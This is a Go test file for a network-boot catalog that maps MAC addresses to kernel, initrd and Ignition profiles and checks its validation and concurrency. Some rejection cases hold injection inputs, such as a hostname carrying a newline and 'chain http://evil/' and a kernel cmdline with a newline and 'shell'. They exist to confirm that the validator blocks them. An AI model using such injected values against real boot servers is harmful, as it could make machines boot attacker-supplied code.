package boot

import (
	"context"
	"errors"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/rackboot/rackboot/boot/ignition"
	"github.com/rackboot/rackboot/ipxe"
)

// files writes a kernel, an initrd and an Ignition config into a temp dir.
type files struct{ dir, kernel, initrd, ign string }

func newFiles(t *testing.T) files {
	t.Helper()
	dir := t.TempDir()
	f := files{dir: dir, kernel: filepath.Join(dir, "vmlinuz"), initrd: filepath.Join(dir, "initrd.img"), ign: filepath.Join(dir, "discovery.ign")}
	write(t, f.kernel, "kernel")
	write(t, f.initrd, "initrd")
	write(t, f.ign, `{"ignition":{"version":"3.4.0"},"storage":{"files":[{"path":"/etc/motd","contents":{"source":"data:,hi"}}]}}`)
	return f
}

func write(t *testing.T, path, s string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
}

func mac(t *testing.T, s string) net.HardwareAddr {
	t.Helper()
	m, err := ParseMAC(s)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func (f files) profile(name string, macs ...net.HardwareAddr) Profile {
	return Profile{Name: name, Kernel: f.kernel, Initrd: f.initrd, Cmdline: "console=ttyS0", Ignition: f.ign, MACs: macs}
}

func TestChoose(t *testing.T) {
	f := newFiles(t)
	m1, m2, stranger := mac(t, "52:54:00:00:00:01"), mac(t, "52:54:00:00:00:02"), mac(t, "52:54:00:00:00:99")
	install := f.profile("install", m1)
	install.Cmdline = "console=tty0"
	cat, err := NewCatalog([]Profile{f.profile("discovery"), install}, []Host{{MAC: m1, Hostname: "master-0"}, {MAC: m2, Hostname: "master-1"}, {MAC: mac(t, "52:54:00:00:00:03")}})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	for _, tc := range []struct {
		mac               net.HardwareAddr
		profile, hostname string
	}{
		{m1, "install", "master-0"},
		{m2, "discovery", "master-1"},
		{stranger, "discovery", ""},
	} {
		ch, err := cat.Choose(ctx, tc.mac)
		if err != nil {
			t.Fatal(err)
		}
		if ch.Action != ActionBoot || ch.Profile != tc.profile || ch.Hostname != tc.hostname || ch.Kernel != f.kernel || ch.Initrd != f.initrd {
			t.Errorf("Choose(%s) = %+v, want profile %s host %q", tc.mac, ch, tc.profile, tc.hostname)
		}
		if _, err := ignition.Parse(ch.Ignition); err != nil {
			t.Errorf("Choose(%s).Ignition: %v", tc.mac, err)
		}
		named := strings.Contains(string(ch.Ignition), "/etc/hostname")
		if named != (tc.hostname != "") || !strings.Contains(string(ch.Ignition), tc.hostname+"%0A") && tc.hostname != "" {
			t.Errorf("Choose(%s).Ignition = %s", tc.mac, ch.Ignition)
		}
		if !cat.Bootable(ctx, tc.mac) {
			t.Errorf("Bootable(%s) = false", tc.mac)
		}
	}
	if ch, _ := cat.Choose(ctx, m1); ch.Cmdline != "console=tty0" {
		t.Errorf("m1 cmdline %q", ch.Cmdline)
	}
	if got := cat.Profiles(); len(got) != 2 || got[0] != "discovery" {
		t.Errorf("Profiles() = %v", got)
	}
}

func TestNoDefaultMeansNoBoot(t *testing.T) {
	f := newFiles(t)
	m1 := mac(t, "52:54:00:00:00:01")
	cat, err := NewCatalog([]Profile{f.profile("install", m1)}, nil)
	if err != nil {
		t.Fatal(err)
	}
	stranger := mac(t, "52:54:00:00:00:99")
	_, err = cat.Choose(context.Background(), stranger)
	if !errors.Is(err, ErrNoBoot) || !strings.Contains(err.Error(), "52:54:00:00:00:99") {
		t.Errorf("Choose(stranger) = %v, want ErrNoBoot naming the MAC", err)
	}
	if cat.Bootable(context.Background(), stranger) || !cat.Bootable(context.Background(), m1) {
		t.Error("Bootable disagrees with the profiles")
	}
	if cat.Bootable(context.Background(), net.HardwareAddr{1, 2}) {
		t.Error("a 2-byte MAC is bootable")
	}
}

func TestNewCatalogRejects(t *testing.T) {
	f := newFiles(t)
	m1 := mac(t, "52:54:00:00:00:01")
	badIgn := filepath.Join(f.dir, "bad.ign")
	write(t, badIgn, `{"ignition":{"version":"3.5.0"},"storage":{"files":[{"path":"relative/path"}]}}`)
	with := func(p Profile, edit func(*Profile)) Profile { edit(&p); return p }
	for name, tc := range map[string]struct {
		profiles []Profile
		hosts    []Host
		sentinel error
		words    []string
	}{
		"two defaults":       {[]Profile{f.profile("a"), f.profile("b")}, nil, ErrInvalidProfile, []string{`"b"`, `"a"`, "default"}},
		"MAC in two":         {[]Profile{f.profile("a", m1), f.profile("b", m1)}, nil, ErrInvalidProfile, []string{`"b"`, "52:54:00:00:00:01", `"a"`}},
		"injecting cmdline":  {[]Profile{with(f.profile("a"), func(p *Profile) { p.Cmdline = "quiet\nshell" })}, nil, ipxe.ErrUnsafe, []string{`"a"`, "cmdline"}},
		"invalid ignition":   {[]Profile{with(f.profile("disc"), func(p *Profile) { p.Ignition = badIgn })}, nil, ignition.ErrInvalid, []string{`"disc"`, badIgn, "absolute"}},
		"missing ignition":   {[]Profile{with(f.profile("a"), func(p *Profile) { p.Ignition = "/nonexistent.ign" })}, nil, os.ErrNotExist, []string{"/nonexistent.ign"}},
		"missing kernel":     {[]Profile{with(f.profile("a"), func(p *Profile) { p.Kernel = "/nonexistent/vmlinuz" })}, nil, os.ErrNotExist, []string{"kernel", "/nonexistent/vmlinuz"}},
		"directory initrd":   {[]Profile{with(f.profile("a"), func(p *Profile) { p.Initrd = f.dir })}, nil, ErrInvalidProfile, []string{"initrd", "regular"}},
		"no kernel":          {[]Profile{with(f.profile("a"), func(p *Profile) { p.Kernel = "" })}, nil, ErrInvalidProfile, []string{"no kernel"}},
		"no name":            {[]Profile{f.profile("")}, nil, ErrInvalidProfile, []string{"no name"}},
		"same name":          {[]Profile{f.profile("a", m1), f.profile("a")}, nil, ErrInvalidProfile, []string{"name"}},
		"short MAC":          {[]Profile{f.profile("a", net.HardwareAddr{1})}, nil, ErrInvalidProfile, []string{"6 bytes"}},
		"injecting hostname": {nil, []Host{{MAC: m1, Hostname: "x\nchain http://evil/"}}, ipxe.ErrUnsafe, []string{"52:54:00:00:00:01", "hostname"}},
		"reserved twice":     {nil, []Host{{MAC: m1, Hostname: "a"}, {MAC: m1, Hostname: "b"}}, ErrInvalidHost, []string{"twice"}},
		"twice, no names":    {nil, []Host{{MAC: m1}, {MAC: m1}}, ErrInvalidHost, []string{"twice"}},
	} {
		cat, err := NewCatalog(tc.profiles, tc.hosts)
		if cat != nil || !errors.Is(err, tc.sentinel) {
			t.Errorf("%s: NewCatalog = %v, %v; want %v", name, cat, err, tc.sentinel)
			continue
		}
		for _, w := range tc.words {
			if !strings.Contains(err.Error(), w) {
				t.Errorf("%s: error %q does not mention %q", name, err, w)
			}
		}
	}
}

func TestNewCatalogListsEveryProblem(t *testing.T) {
	f := newFiles(t)
	bad1 := f.profile("one")
	bad1.Cmdline = "a;b"
	bad2 := f.profile("two", mac(t, "52:54:00:00:00:01"))
	bad2.Kernel = "/nonexistent"
	_, err := NewCatalog([]Profile{bad1, bad2}, []Host{{MAC: mac(t, "52:54:00:00:00:02"), Hostname: "-x"}})
	if err == nil || strings.Count(err.Error(), "\n") != 2 {
		t.Fatalf("want three problems on three lines, got %v", err)
	}
}

func TestWarningsNameProfile(t *testing.T) {
	f := newFiles(t)
	write(t, f.ign, `{"ignition":{"version":"3.5.0"},"storag":{}}`)
	cat, err := NewCatalog([]Profile{f.profile("disc")}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if w := cat.Warnings(); len(w) != 1 || !strings.Contains(w[0], `"disc"`) || !strings.Contains(w[0], "storag") {
		t.Errorf("Warnings() = %q", w)
	}
}

func TestEmptyIgnitionPath(t *testing.T) {
	f := newFiles(t)
	p := f.profile("bare")
	p.Ignition = ""
	m1 := mac(t, "52:54:00:00:00:01")
	cat, err := NewCatalog([]Profile{p}, []Host{{MAC: m1, Hostname: "h1"}})
	if err != nil {
		t.Fatal(err)
	}
	ch, err := cat.Choose(context.Background(), m1)
	if err != nil || !strings.Contains(string(ch.Ignition), "data:,h1%0A") {
		t.Errorf("Choose = %s, %v", ch.Ignition, err)
	}
}

func TestHolderSwap(t *testing.T) {
	f := newFiles(t)
	ctx := context.Background()
	m1 := mac(t, "52:54:00:00:00:01")
	var zero Holder
	if _, err := zero.Choose(ctx, m1); !errors.Is(err, ErrNoBoot) || zero.Bootable(ctx, m1) {
		t.Errorf("empty holder: %v", err)
	}
	a, err := NewCatalog([]Profile{f.profile("a")}, nil)
	if err != nil {
		t.Fatal(err)
	}
	b, err := NewCatalog([]Profile{f.profile("b", mac(t, "52:54:00:00:00:02"))}, nil)
	if err != nil {
		t.Fatal(err)
	}
	h := NewHolder(a)
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			for range 1000 {
				ch, err := h.Choose(ctx, m1)
				if err == nil && ch.Profile != "a" || err != nil && !errors.Is(err, ErrNoBoot) {
					t.Errorf("reader saw %+v, %v", ch, err)
					return
				}
			}
		})
	}
	for range 100 {
		h.Swap(b)
		h.Swap(a)
	}
	wg.Wait()
	if old := h.Swap(b); old != a || h.Catalog() != b {
		t.Error("Swap did not return the previous catalog")
	}
	if h.Bootable(ctx, m1) {
		t.Error("after swapping to b, m1 (only in a's default) is still bootable")
	}
}
